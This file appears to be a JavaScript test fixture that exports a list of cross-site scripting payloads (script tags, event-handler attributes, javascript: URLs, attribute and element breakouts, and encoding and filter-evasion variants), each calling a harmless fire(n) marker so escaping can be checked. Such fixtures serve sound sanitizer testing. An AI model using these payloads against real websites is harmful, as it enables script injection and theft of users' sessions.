// Text that would run if a page forgot to escape it. Each calls fire() with its own number; the short ones fit into a name.
const inMarkup = [
  '<script>FIRE</script>', '<ScRiPt>FIRE</sCrIpT>', '<script >FIRE</script >', '<script/x>FIRE</script>',
  '<script\n>FIRE</script\n>', '<img src=x onerror=FIRE>', '<IMG SRC=x ONERROR="FIRE">', '<img/src=x/onerror=FIRE>',
  '<img src=x onerror\n=\nFIRE>', '<img src=`x` onerror=FIRE>', '<img srcset=x onerror=FIRE>', '<svg onload=FIRE>',
  '<svg/onload=FIRE>', '<svg><script>FIRE</script></svg>', '<svg><script href="data:,FIRE"/>', '<svg><a><img src=x onerror=FIRE>',
  '<svg><image href=x onerror=FIRE>', '<svg><style><img src=x onerror=FIRE>', '<svg></p><style><a id="</style><img src=x onerror=FIRE>">',
  '<math><mtext><img src=x onerror=FIRE>', '<body onload=FIRE>', '<body onpageshow=FIRE>', '<body onfocus=FIRE>',
  '<iframe onload=FIRE>', '<iframe srcdoc="<img src=x onerror=FIRE>">', '<iframe src="javascript:top.FIRE">',
  '<iframe src=javascript:top.FIRE>', '<object data="javascript:FIRE">', '<embed src="javascript:FIRE">',
  '<video src=x onerror=FIRE>', '<video><source onerror=FIRE>', '<audio src=x onerror=FIRE>', '<input autofocus onfocus=FIRE>',
  '<select autofocus onfocus=FIRE>', '<textarea autofocus onfocus=FIRE>', '<details open ontoggle=FIRE>',
  '<p tabindex=1 autofocus onfocus=FIRE>', '<b onmouseover=FIRE>x', '<b onclick=FIRE>x', '<a href="javascript:FIRE">x</a>',
  '<a href="&#106;avascript:FIRE">x</a>', '<a href="java\tscript:FIRE">x</a>', '<form action=javascript:FIRE><button>x',
  '<button formaction=javascript:FIRE>x', '<base href="javascript:/FIRE//">', '<meta http-equiv=refresh content="0;url=javascript:FIRE">',
  '<link rel=stylesheet href=x onerror=FIRE>', '<style onload=FIRE></style>', '<marquee onstart=FIRE>x', '<x onclick=FIRE>x',
  '<script src="data:text/javascript,FIRE"></script>', '<noscript><p title="</noscript><img src=x onerror=FIRE>">',
  '<template><script>FIRE</script></template>', '<![CDATA[<img src=x onerror=FIRE>]]>', '<?xml <img src=x onerror=FIRE>?>',
  '<!--><img src=x onerror=FIRE>-->', '--><script>FIRE</script>', '--!><img src=x onerror=FIRE>', ']]><img src=x onerror=FIRE>',
  '<<script>FIRE//<</script>', '<scr<script>ipt>FIRE</scr</script>ipt>', '<image src=x onerror=FIRE>', '<isindex onfocus=FIRE autofocus>',
];
const outOfAttributes = [
  '"><script>FIRE</script>', "'><script>FIRE</script>", '"><img src=x onerror=FIRE>', "'><img src=x onerror=FIRE>",
  '" onmouseover="FIRE', "' onmouseover='FIRE", '" onfocus="FIRE" autofocus="', "' onfocus='FIRE' autofocus='",
  '" onload="FIRE', '"/onclick="FIRE"/x="', '`><img src=x onerror=FIRE>', ' onclick=FIRE x=',
  '&quot;><img src=x onerror=FIRE>', '&#34;><img src=x onerror=FIRE>',
];
const outOfElements = [
  '</textarea><script>FIRE</script>', '</textarea><img src=x onerror=FIRE>', '</title><img src=x onerror=FIRE>',
  '</script><script>FIRE</script>', '</style><img src=x onerror=FIRE>', '</svg><img src=x onerror=FIRE>',
  '</desc></svg><svg onload=FIRE>', '</option></select><img src=x onerror=FIRE>', '\n</textarea><svg onload=FIRE>',
];
const inScripts = [
  'javascript:FIRE', 'JaVaScRiPt:FIRE', '//evil.example/%0aFIRE', '";FIRE;//', "';FIRE;//", '`;FIRE;//', '${FIRE}', '{{FIRE}}', '<%= FIRE %>',
  '\\";FIRE;//', '\u2028FIRE', '\u003cscript\u003eFIRE\u003c/script\u003e', '&lt;script&gt;FIRE&lt;/script&gt;', '%3Cscript%3EFIRE%3C/script%3E',
  '＜script＞FIRE＜/script＞',
];

export const payloads = [...inMarkup, ...outOfAttributes, ...outOfElements, ...inScripts]
  .map((payload, n) => payload.replaceAll('FIRE', `fire(${n})`));
